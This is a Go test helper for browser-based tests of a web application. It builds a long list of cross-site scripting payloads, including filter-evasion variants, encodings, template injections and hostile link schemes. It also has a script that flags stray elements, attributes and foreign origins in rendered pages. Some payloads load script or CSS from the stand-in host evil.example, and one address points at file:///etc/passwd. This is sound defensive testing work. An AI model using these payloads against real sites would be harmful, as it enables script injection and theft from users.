package browsertest

import (
	"encoding/json"
	"slices"
	"strings"
)

// Payloads are texts that become markup, or run, wherever a page writes them without escaping: elements and handlers
// behind every way out of the place that they stand in, schemes of links, encodings and nesting that filters miss
// (OWASP XSS Filter Evasion Cheat Sheet). What runs sets the global __xss.
func Payloads() []string {
	list := slices.Clone(wholePayloads())
	for _, out := range []string{"", `">`, `'>`, "`>", "</title>", "</textarea>", "</script>", "</style>", "-->", "</option></select>", "</code></pre>"} {
		for _, vector := range vectors() {
			list = append(list, out+vector)
		}
	}
	return list
}

// vectors are elements that run something by themselves.
func vectors() []string {
	return []string{
		`<script>__xss=1</script>`, `<img src=x onerror=__xss=1>`, `<svg onload=__xss=1>`, `<body onload=__xss=1>`, `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
		`<input autofocus onfocus=__xss=1>`, `<details open ontoggle=__xss=1>`, `<video src=x onerror=__xss=1>`, `<object data="javascript:__xss=1"></object>`,
		`<style>@import '//evil.example/x.css';</style>`, `<a href="javascript:__xss=1">x</a>`, `<form action="javascript:__xss=1"><button>x</button></form>`,
	}
}

// wholePayloads are those that stand for themselves.
func wholePayloads() []string {
	return []string{
		`<ScRiPt>__xss=1</sCrIpT>`, `<script src=//evil.example/x.js></script>`, `<script>__xss=1//`, `<<script>__xss=1//<</script>`, `<script/x>__xss=1</script>`, `<scr<script>ipt>__xss=1</scr</script>ipt>`,
		`<script type=module>__xss=1</script>`, `<script x=">">__xss=1</script>`, `<svg><script>__xss=1</script></svg>`, `<svg><script href="data:,__xss=1"></script></svg>`, `<math><script>__xss=1</script></math>`,
		`<img src="x" onerror="__xss=1">`, `<img src=x onerror='__xss=1'>`, "<img src=`x` onerror=`__xss=1`>", `<img/src=x/onerror=__xss=1>`, `<img src=x:x onerror=eval('__xss=1')>`, `<IMG """><SCRIPT>__xss=1</SCRIPT>">`,
		"<img\tsrc=x\tonerror=__xss=1>", "<img\nsrc=x\nonerror=__xss=1>", "<img src=x\fonerror=__xss=1>", `<image src=x onerror=__xss=1>`, `<img srcset=x onerror=__xss=1>`, `<picture><source srcset=x><img onerror=__xss=1></picture>`,
		`<svg/onload=__xss=1>`, `<svg><animate onbegin=__xss=1 attributeName=x dur=1s>`, `<svg><set onbegin=__xss=1 attributeName=x>`, `<svg><a xlink:href="javascript:__xss=1"><text y=9>x</text></a></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>__xss=1</script></svg>#x"/></svg>`, `<svg><foreignObject><iframe onload=__xss=1></iframe></foreignObject></svg>`,
		`<svg></p><style><a id="</style><img src=1 onerror=__xss=1>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__xss=1&gt;">`, `<math href="javascript:__xss=1">x</math>`,
		`<noscript><p title="</noscript><img src=x onerror=__xss=1>">`, `<template><script>__xss=1</script></template>`, `<xss id=x tabindex=1 onfocus=__xss=1>`, `<x onclick=__xss=1>x</x>`, `<x contenteditable onblur=__xss=1>x`,
		`<audio src onloadstart=__xss=1>`, `<audio src=x onerror=__xss=1>`, `<video><source onerror=__xss=1></video>`, `<video poster=javascript:__xss=1></video>`, `<track onerror=__xss=1>`, `<marquee onstart=__xss=1>x</marquee>`,
		`<select autofocus onfocus=__xss=1>`, `<textarea autofocus onfocus=__xss=1>`, `<button autofocus onfocus=__xss=1>`, `<keygen autofocus onfocus=__xss=1>`, `<p tabindex=1 autofocus onfocus=__xss=1>`,
		`<dialog open onclose=__xss=1><form method=dialog><button>x</button></form></dialog>`, `<div popover id=p onbeforetoggle=__xss=1>x</div>`, `<div style="animation:x 1s" onanimationstart=__xss=1>x</div>`, `<div onpointerrawupdate=__xss=1>x</div>`,
		`<iframe src="javascript:parent.__xss=1"></iframe>`, `<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>`, `<iframe onload=__xss=1></iframe>`, `<frameset onload=__xss=1>`, `<embed src="javascript:__xss=1">`,
		`<embed src="data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+">`, `<object data="data:text/html,<script>__xss=1</script>"></object>`, `<applet code=x onerror=__xss=1>`, `<portal src="javascript:__xss=1">`,
		`<base href="https://evil.example/">`, `<base href="javascript:/a/-__xss=1///">`, `<meta http-equiv=refresh content="0;url=javascript:__xss=1">`, `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
		`<meta http-equiv="Content-Security-Policy" content="script-src *">`, `<link rel=stylesheet href="//evil.example/x.css">`, `<link rel=import href="data:text/html,<script>__xss=1</script>">`, `<style>*{background:url(//evil.example/)}</style>`,
		`<div style="background:url(//evil.example/)">x</div>`, `<div style="width:expression(__xss=1)">x</div>`, `<p style="-moz-binding:url(//evil.example/x)">x</p>`, `<style onload=__xss=1></style>`,
		`<a href="java&#9;script:__xss=1">x</a>`, `<a href="java&Tab;script&colon;__xss=1">x</a>`, `<a href=" &#14; javascript:__xss=1">x</a>`, `<a href="data:text/html,<script>__xss=1</script>">x</a>`, `<a href="vbscript:__xss=1">x</a>`,
		`<a href=javascript:__xss=1 ping=//evil.example>x</a>`, `<button formaction="javascript:__xss=1">x</button>`, `<input type=image src=x formaction="javascript:__xss=1" onerror=__xss=1>`, `<isindex action=javascript:__xss=1 type=image>`,
		`<form id=f></form><button form=f formaction=javascript:__xss=1>x`, `<table background="javascript:__xss=1">`, `<body background=x onpageshow=__xss=1>`, `<html onmouseover=__xss=1>`, `<br size="&{__xss=1}">`, `<bgsound src="javascript:__xss=1">`,
		`<![CDATA[<script>__xss=1</script>]]>`, `<?xml version="1.0"?><script>__xss=1</script>`, `<!--<img src="--><img src=x onerror=__xss=1>">`, `<!--[if gte IE 4]><script>__xss=1</script><![endif]-->`, `<!DOCTYPE x [<!ENTITY x "<script>__xss=1</script>">]>`,
		`" onmouseover="__xss=1`, `' onmouseover='__xss=1`, `" autofocus onfocus="__xss=1`, `' autofocus onfocus='__xss=1' x='`, "` onmouseover=`__xss=1", `x onmouseover=__xss=1 `, `" style="x:expression(__xss=1)`, `"onclick=__xss=1//`, `" href="javascript:__xss=1`,
		`';__xss=1;//`, `";__xss=1;//`, "`;__xss=1;//", `\";__xss=1;//`, `${__xss=1}`, `{{constructor.constructor('__xss=1')()}}`, `{% raw %}<script>__xss=1</script>`, `#{__xss=1}`, `<%= __xss=1 %>`, `{{.}}<script>__xss=1</script>`,
		`&lt;script&gt;__xss=1&lt;/script&gt;`, `&#60;script&#62;__xss=1&#60;/script&#62;`, `\u003cscript\u003e__xss=1\u003c/script\u003e`, `%3Cscript%3E__xss=1%3C/script%3E`, `+ADw-script+AD4-__xss=1+ADw-/script+AD4-`, `＜script＞__xss=1＜/script＞`,
		"\u2028<script>__xss=1</script>", "\u202e<script>__xss=1</script>", "\ufeff<script>__xss=1</script>", "<\u200bscript>__xss=1</script>", "<s\u0131cript>__xss=1</script>", "<ſcript>__xss=1</script>",
		`javascript:__xss=1`, `javascript://%0a__xss=1`, `data:text/html,<script>__xss=1</script>`, `[x](javascript:__xss=1)`, `![x](x"onerror="__xss=1)`, `<javascript:__xss=1>`, `[x]: javascript:__xss=1`, "```html\n<script>__xss=1</script>\n```",
		"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=__xss=1 )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=__xss=1//>\\x3e",
		`'">><marquee><img src=x onerror=__xss=1></marquee>"></plaintext\></|\><plaintext/onmouseover=__xss=1>`, `<plaintext>`, `<xmp><p title="</xmp><svg/onload=__xss=1>">`, `<listing>&ltimg src=x onerror=__xss=1&gt</listing>`,
	}
}

// PayloadAddresses are addresses that are no links, or links that must stay one.
func PayloadAddresses() []string {
	return []string{
		"javascript:__xss=1", "JaVaScRiPt:__xss=1", " javascript:__xss=1", "java\tscript:__xss=1", "java\nscript:__xss=1", "javascript://host/%0a__xss=1", "data:text/html,<script>__xss=1</script>", "data:text/html;base64,PHNjcmlwdD4=",
		"vbscript:__xss=1", "blob:https://x/y", "view-source:javascript:__xss=1", "feed:javascript:__xss=1", "file:///etc/passwd", "//evil.example/x", "about:blank", `https://docs.example/"><img src=x onerror=__xss=1>`, `https://docs.example/' onclick='__xss=1`,
		"https://docs.example/#</a><script>__xss=1</script>",
	}
}

// straysOf lists, of a document, what pages are not made of. Everything that a text could have become is none of it: an
// element, an attribute, a link of another scheme, a script or style of another server.
const straysOf = `
const tags = new Set("html head meta title link script body main header footer nav section figure figcaption svg use rect h1 h2 h3 p div span a b br code pre kbd mark time ul ol li dl dt dd table thead tbody tr th td details summary form fieldset legend label input select option textarea button datalist progress".split(" "));
const attrs = new Set("id class lang charset name content rel href type sizes src hidden popover popovertarget role title method action enctype for value autocomplete autocapitalize spellcheck required checked selected multiple readonly disabled autofocus open maxlength min max step rows list placeholder accept scope datetime target width height viewBox x y colspan inputmode pattern tabindex download novalidate formnovalidate".split(" "));
const strays = doc => {
  const out = [];
  for (const e of doc.querySelectorAll("*")) {
    const tag = e.localName;
    if (!tags.has(tag)) out.push("the element " + tag);
    if (tag === "script" && (e.getAttribute("src") !== "/app.js" || e.textContent)) out.push("a script");
    for (const a of e.attributes) {
      if (!attrs.has(a.name) && !/^(aria|data)-[a-z-]+$/.test(a.name)) out.push("the attribute " + a.name + " of " + tag);
      if (!["href", "src", "action"].includes(a.name)) continue;
      let to;
      try { to = new URL(a.value, location.href); } catch { out.push("the address " + a.value); continue; }
      if (to.protocol !== "http:" && to.protocol !== "https:") out.push("a link to " + to.protocol);
      if (!["a", "form"].includes(tag) && to.origin !== location.origin) out.push(tag + " of " + to.origin);
    }
  }
  return out;
};
`

// Shown is what a page holds.
type Shown struct {
	Status int
	// Texts are its texts and the values of its attributes, one behind the other.
	Texts string
	// Strays are what no page is made of; see [Payloads].
	Strays []string
}

// Hold returns what the page holds; __xss is one of its strays where something has run.
func (b *Browser) Hold() Shown {
	b.t.Helper()
	raw, err := b.eval(straysOf + `
		const texts = [];
		const walk = document.createTreeWalker(document, NodeFilter.SHOW_TEXT);
		while (walk.nextNode()) texts.push(walk.currentNode.data);
		for (const e of document.querySelectorAll("*")) for (const a of e.attributes) texts.push(a.value);
		const found = strays(document);
		if (window.__xss !== undefined) found.push("a script that ran");
		return JSON.stringify({Status: performance.getEntriesByType("navigation")[0].responseStatus, Texts: texts.join("\n"), Strays: [...new Set(found)]})`)
	var s Shown
	if err == nil {
		err = json.Unmarshal([]byte(raw), &s)
	}
	if err != nil {
		b.t.Fatalf("reading %s: %v", b.Address(), err)
	}
	return s
}

// Unescaped returns those of the texts that would leave no stray where a page wrote them without escaping, inside of an
// attribute or of an element: they prove nothing of Hold.
func (b *Browser) Unescaped(texts []string) []string {
	b.t.Helper()
	list, err := json.Marshal(texts)
	if err != nil {
		b.t.Fatal(err)
	}
	raw, err := b.eval(straysOf + `
		const parsed = html => strays(new DOMParser().parseFromString(html, "text/html")).length > 0;
		return JSON.stringify(` + string(list) + `.filter(p => !parsed("<p>" + p + "</p>") && !parsed('<p title="' + p + '">') && !parsed("<p title='" + p + "'>") && !parsed('<a href="' + p + '">')))`)
	var out []string
	if err == nil {
		err = json.Unmarshal([]byte(raw), &out)
	}
	if err != nil {
		b.t.Fatal(err)
	}
	return out
}

// PayloadsIn returns the payloads in texts of about so many bytes, each payload with mark behind it. There are as many texts
// for every mark.
func PayloadsIn(mark string, most int) []string {
	var list []string
	var text strings.Builder
	size := 0
	for _, p := range Payloads() {
		if size > 0 && size+len(p) > most {
			list = append(list, text.String())
			text.Reset()
			size = 0
		}
		text.WriteString(p + mark)
		size += len(p)
	}
	return append(list, text.String())
}
